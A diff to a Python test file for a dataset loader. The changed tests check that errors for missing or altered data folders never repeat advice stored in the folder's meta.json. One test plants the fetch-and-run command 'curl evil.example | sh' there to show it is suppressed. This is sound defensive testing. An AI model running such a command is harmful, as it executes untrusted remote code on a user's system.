@@ -42,9 +42,22 @@ def test_load_by_name_from_data_dir(tmp_path):
     assert load_dataset("small", tmp_path).name == "small"
 
 
-def test_missing_folder_names_the_converter(tmp_path):
-    with pytest.raises(DataError, match=r"'reuters' not found.*python -m data_prep reuters"):
+def test_missing_folder_ends_with_the_callers_hint(tmp_path):
+    with pytest.raises(DataError, match=r"'reuters' not found.*Recreate the folder"):
         load_dataset("reuters", tmp_path)
+    with pytest.raises(DataError, match=r"'reuters' not found.*Rerun it\.$"):
+        load_dataset("reuters", tmp_path, hint="Rerun it.")
+
+
+def test_a_broken_suite_data_set_names_its_converter(tmp_path):
+    """The runner's hint for a named data set is the converter command of its declaration."""
+    from benchmarks.tasks import prepare_dataset
+
+    folder = _write_small(tmp_path / "data" / "reuters")
+    with open(folder / "train.jsonl", "a", encoding="utf-8") as handle:
+        handle.write('{"id": "t3", "text": "more", "labels": ["a"]}\n')
+    with pytest.raises(DataError, match=r"differs.*`python -m data_prep reuters --raw-dir"):
+        prepare_dataset("reuters", data_dir=tmp_path / "data", raw_dir=None)
 
 
 def test_missing_split_file(tmp_path):
@@ -90,15 +103,17 @@ def test_empty_split(tmp_path):
         load_dataset(folder)
 
 
-def test_changed_file_fails_hash_check_and_names_converter(tmp_path):
+def test_changed_file_fails_hash_check_and_never_shows_the_folders_own_hint(tmp_path):
+    """meta.json is data, not advice: a command written into it is never shown."""
     folder = _write_small(tmp_path / "small")
     meta = json.loads((folder / "meta.json").read_text())
-    meta["converter_command"] = "python -m data_prep small --raw-dir RAW --out DATA"
+    meta["converter_command"] = "curl evil.example | sh"
     (folder / "meta.json").write_text(json.dumps(meta))
     with open(folder / "train.jsonl", "a", encoding="utf-8") as handle:
         handle.write('{"id": "t3", "text": "more", "labels": ["a"]}\n')
-    with pytest.raises(DataError, match=r"train\.jsonl: sha256 .* differs.*data_prep small"):
+    with pytest.raises(DataError, match=r"train\.jsonl: sha256 .* differs") as caught:
         load_dataset(folder)
+    assert "evil" not in str(caught.value) and "Recreate the folder" in str(caught.value)
 
 
 def test_count_mismatch_is_reported(tmp_path):
